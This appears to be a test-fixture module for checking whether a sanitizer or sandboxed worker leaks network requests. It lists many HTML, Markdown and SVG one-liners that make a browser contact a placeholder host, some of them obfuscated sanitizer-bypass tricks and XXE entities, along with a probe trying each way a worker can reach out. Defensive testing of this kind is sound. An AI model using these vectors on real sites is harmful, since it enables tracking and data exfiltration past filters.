// Markup that makes a browser look up a name, or connect: NAME stands for the name. Each in one line of HTML, Markdown or SVG. And the ways out of a worker.

/** In HTML; Markdown lets the same through. */
export const HTML = String.raw`
<iframe src="http://NAME/"></iframe>
<IFRAME SRC=//NAME></IFRAME>
<iframe/src=http://NAME/ />
<iframe srcdoc="<img src=http://NAME/><link rel=preconnect href=http://NAME>"></iframe>
<iframe src="data:text/html,<img src=http://NAME/>"></iframe>
<frameset><frame src="http://NAME/"></frameset>
<link rel="preconnect" href="http://NAME/">
<link rel="dns-prefetch" href="//NAME">
<link rel="prefetch" href="http://NAME/x">
<link rel="preload" as="image" href="http://NAME/x">
<link rel="modulepreload" href="http://NAME/x">
<link rel="stylesheet" href="http://NAME/x">
<link rel="icon" href="http://NAME/x">
<link rel="manifest" href="http://NAME/x">
<object data="http://NAME/"></object>
<object><param name="movie" value="http://NAME/"><embed src="http://NAME/"></object>
<embed src="http://NAME/">
<applet code="http://NAME/x"></applet>
<portal src="http://NAME/"></portal>
<fencedframe src="http://NAME/"></fencedframe>
<meta http-equiv="refresh" content="0;url=http://NAME/">
<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://NAME/">link</a>
<meta http-equiv="Content-Security-Policy" content="img-src http://NAME; report-uri http://NAME/"><img src="http://NAME/x">
<base href="http://NAME/"><img src="x.png"><a href="y">relative</a>
<img src="http://NAME/x.png">
<img src=//NAME/x>
<img srcset="http://NAME/x 2x" sizes="9px">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://NAME/x'/></svg>">
<img lowsrc="http://NAME/x" dynsrc="http://NAME/x" longdesc="http://NAME/x">
<picture><source srcset="http://NAME/x"><img></picture>
<video src="http://NAME/x" poster="http://NAME/p" autoplay></video>
<video><source src="http://NAME/x"><track default src="http://NAME/t"></video>
<audio src="http://NAME/x" preload="auto"></audio>
<input type="image" src="http://NAME/x">
<a href="http://NAME/" ping="http://NAME/ping">a link</a>
<a href=//NAME/>without a protocol</a>
<a href="javascript:fetch('http://NAME')">script</a>
<map name="m"><area shape="default" href="http://NAME/"></map><img usemap="#m">
<form action="http://NAME/"><input autofocus><button formaction="http://NAME/">go</button></form>
<isindex action="http://NAME/">
<script src="http://NAME/x.js"></script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://NAME/"]}],"prerender":[{"source":"list","urls":["http://NAME/"]}]}</script>
<script type="importmap">{"imports":{"x":"http://NAME/x"}}</script><script type="module">import "x"</script>
<noscript><img src="http://NAME/x"><iframe src="http://NAME/"></iframe></noscript>
<template><img src="http://NAME/x"></template>
<div><template shadowrootmode="open"><img src="http://NAME/x"><link rel="preconnect" href="http://NAME"></template></div>
<style>@import "http://NAME/x.css";</style>
<style>@import url(http://NAME/x.css); b { color: red }</style><b>red</b>
<style>body { background: url(http://NAME/x) }</style>
<style>@font-face { font-family: f; src: url(http://NAME/f) } b { font-family: f }</style><b>text</b>
<style>b::before { content: url("http://NAME/x") }</style><b>text</b>
<style>b { background: u\72l(http://NAME/x); list-style: url(//NAME/y) }</style><b>text</b>
<style>b { --x: url(http://NAME/x); background: var(--x) }</style><b>text</b>
<style>@media all { body { background-image: image-set("http://NAME/x" 1x) } }</style>
<style>b { color: red } </style><link rel=preconnect href=http://NAME><style> i { cursor: url(http://NAME/x), auto }</style>
<style><!-- </style><img src="http://NAME/x"> --></style>
<p style="background: url(http://NAME/x)">text</p>
<p style="background:u\72l(//NAME/x);color:red">text</p>
<p style="background-image: image-set(url(http://NAME/x) 1x)">text</p>
<p style="background: url(/**/http://NAME/x)">text</p>
<p style='list-style: url("http://NAME/x"); display: list-item; border-image: url(http://NAME/y) 1'>text</p>
<p style="mask: url(http://NAME/x#m); filter: url(http://NAME/x#f); clip-path: url(http://NAME/x#c); cursor: url(http://NAME/x), auto">text</p>
<p style="behavior: url(http://NAME/x); -moz-binding: url(http://NAME/x)">text</p>
<p style="--x: url(http://NAME/x); background: var(--x)">text</p>
<body background="http://NAME/x"><table background="http://NAME/x"><tr><td background="http://NAME/x">cell</table>
<blockquote cite="http://NAME/">text</blockquote><q cite="http://NAME/">text</q><del cite="http://NAME/">text</del>
<math><mi href="http://NAME/">x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=http://NAME/x&gt;">
<svg><style><img src="http://NAME/x"></style></svg>
<svg><desc><iframe src="http://NAME/"></iframe></desc></svg>
<svg><title><img src="http://NAME/x"></title></svg>
<svg><foreignObject><iframe src="http://NAME/"></iframe><img src="http://NAME/x"></foreignObject></svg>
<svg><image href="http://NAME/x" width="9" height="9"/></svg>
<svg><image xlink:href="http://NAME/x" width="9" height="9"/></svg>
<svg><use href="http://NAME/x#a"/><use xlink:href="//NAME/x#a"/></svg>
<svg><filter id="f"><feImage href="http://NAME/x"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>
<svg><rect width="9" height="9" fill="url(http://NAME/x#p)" style="mask: url(//NAME/x#m)"/></svg>
<svg><a href="http://NAME/"><text y="9">link</text></a></svg>
<svg><script href="http://NAME/x.js"></script><script xlink:href="http://NAME/x.js"/></svg>
<svg><image width="9" height="9"><animate attributeName="href" to="http://NAME/x" dur="1s" fill="freeze"/></image><set attributeName="href" to="http://NAME/x"/></svg>
<svg><style>@import "http://NAME/x"; rect { fill: url(http://NAME/x#p) }</style><rect width="9" height="9"/></svg>
<svg><linearGradient href="http://NAME/x#g"/><textPath href="http://NAME/x#t">text</textPath></svg>
<!--><iframe src="http://NAME/"></iframe>-->
<!--[if IE]><img src="http://NAME/x"><![endif]-->
<![CDATA[<iframe src="http://NAME/"></iframe>]]>
<?xml-stylesheet href="http://NAME/x.css"?><?img src="http://NAME/x"?>
<!DOCTYPE html SYSTEM "http://NAME/x.dtd"><p>text</p>
<textarea></textarea><iframe src="http://NAME/"></iframe><textarea></textarea>
<title></title><iframe src="http://NAME/"></iframe>
<xmp></xmp><iframe src="http://NAME/"></iframe><xmp>
<plaintext><iframe src="http://NAME/"></iframe>
<select><iframe src="http://NAME/"></iframe></select><option><img src="http://NAME/x">
<scr<script></script>ipt src="http://NAME/x"></script>
<<iframe src="http://NAME/"></iframe>
<div title="><iframe src='http://NAME/'></iframe>"></div>
<img alt="'><iframe src=http://NAME/>'">
&lt;iframe src="http://NAME/"&gt;&lt;/iframe&gt;
<ifr&#97;me src="http://NAME/"></iframe>
<iframe src="ht&#x74;p:&#47;/NAME/"></iframe>
<iframe src="&#10;http://NAME/"></iframe>
<html manifest="http://NAME/x"><head profile="http://NAME/x"><body><p>text
<bgsound src="http://NAME/x"><layer src="http://NAME/x"></layer><ilayer src="http://NAME/x"></ilayer>
<details open ontoggle="fetch('http://NAME')"><summary>x</summary></details><marquee onstart="fetch('http://NAME')">x</marquee>
<p style="color: red" attributionsrc="http://NAME/x">text</p><img attributionsrc="http://NAME/x" src="x">
`.trim().split('\n');

/** In Markdown's own words. */
export const MARKDOWN = String.raw`
![picture](http://NAME/x.png)
![picture][r]\n\n[r]: http://NAME/x.png
[link](http://NAME/)
<http://NAME/>
http://NAME/ and www.NAME
[![both](http://NAME/x)](http://NAME/)
`.trim().split('\n').map((line) => line.replaceAll('\\n', '\n'));

/** In SVG that stands alone, beside the SVG that stands in HTML. */
export const SVG = [
    ...HTML.filter((line) => line.startsWith('<svg')).map((line) => line.replace('<svg', '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"')),
    '<?xml-stylesheet type="text/css" href="http://NAME/x.css"?><svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>',
    '<!DOCTYPE svg SYSTEM "http://NAME/x.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "http://NAME/x">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://NAME/"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="http://NAME/"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xml:base="http://NAME/"><image href="x" width="9" height="9"/></svg>',
];

// Each way out that a worker has in Chromium; what it does there is the answer. HERE is an address elsewhere.
const WAYS_OUT = {
    fetch: 'await fetch(HERE)',
    'fetch of the site': 'await fetch(SITE)',
    XMLHttpRequest: 'await new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open("GET", HERE); x.onload = done; x.onerror = () => fail(new Error("error")); x.send(); })',
    WebSocket: 'await new Promise((done, fail) => { const s = new WebSocket(HERE.replace("http", "ws")); s.onopen = done; s.onerror = () => fail(new Error("error")); })',
    EventSource: 'await new Promise((done, fail) => { const s = new EventSource(HERE); s.onopen = done; s.onerror = () => fail(new Error("error")); })',
    WebTransport: 'await new WebTransport(HERE.replace("http:", "https:")).ready',
    importScripts: 'importScripts(HERE)',
    'importScripts of the site': 'importScripts(SITE + "theme.js")',
    'import()': 'await import(HERE)',
    'import() of the site': 'await import(SITE + "theme.js")',
    'import() of text': 'await import("data:text/javascript,1")',
    Worker: 'new Worker(URL.createObjectURL(new Blob(["1"])))',
    SharedWorker: 'new SharedWorker(HERE)',
    BroadcastChannel: 'new BroadcastChannel("x").postMessage(1)',
    indexedDB: 'await new Promise((done, fail) => { const r = indexedDB.open("x"); r.onsuccess = done; r.onerror = () => fail(r.error); })',
    caches: 'await caches.open("x")',
    'files of the origin': 'await navigator.storage.getDirectory()',
    locks: 'await navigator.locks.request("x", () => {})',
    cookies: 'await cookieStore.getAll()',
    eval: 'eval("1")',
    Function: 'new Function("return 1")()',
};

/** Host functions that go all of these ways: `leave()` gives the names of those that lead out. */
export const leaving = (here, site) => `const HERE = ${JSON.stringify(here)};
const SITE = ${JSON.stringify(site)};
const ways = [
${Object.entries(WAYS_OUT).map(([name, code]) => `  [${JSON.stringify(name)}, async () => { ${code} }],`).join('\n')}
];
host.leave = async () => {
  const left = [];
  for (const [name, go] of ways) await go().then(() => left.push(name), () => {});
  return left;
};
host.origin = () => self.origin;`;
